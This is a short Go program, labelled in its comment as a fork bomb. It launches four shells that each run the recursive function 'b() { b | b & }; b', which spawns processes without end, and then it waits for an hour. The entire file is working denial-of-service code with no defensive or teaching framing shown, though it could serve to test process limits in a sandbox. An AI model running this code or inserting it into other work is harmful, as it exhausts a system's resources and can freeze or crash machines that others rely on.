// A fork bomb: shells that fork forever, started four times over; then wait.
package main

import (
	"fmt"
	"os/exec"
	"time"
)

func main() {
	fmt.Println("start")
	for i := 0; i < 4; i++ {
		cmd := exec.Command("/bin/sh", "-c", "b() { b | b & }; b; sleep 1000")
		if err := cmd.Start(); err != nil {
			fmt.Println("start failed:", err)
		}
	}
	time.Sleep(time.Hour)
}
